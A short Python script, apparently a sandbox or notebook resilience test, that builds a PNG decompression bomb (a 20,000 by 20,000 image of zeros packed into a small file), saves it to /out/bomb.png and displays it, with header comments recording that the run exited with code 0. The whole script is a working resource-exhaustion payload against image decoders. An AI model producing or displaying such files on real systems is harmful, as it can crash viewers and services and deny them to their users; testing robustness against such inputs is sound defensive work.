# What: leaves and shows a small picture that is huge once unpacked.
# Ends: exited
# Code: 0
import struct
import zlib

from IPython.display import Image

WIDTH = 20_000
packer = zlib.compressobj(1)
rows = b"".join(packer.compress(bytes(WIDTH + 1) * 1000) for _ in range(WIDTH // 1000)) + packer.flush()


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


head = struct.pack(">IIBBBBB", WIDTH, WIDTH, 8, 0, 0, 0, 0)
picture = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
open("/out/bomb.png", "wb").write(picture)
display(Image(data=picture))
print("TRIED", len(picture))
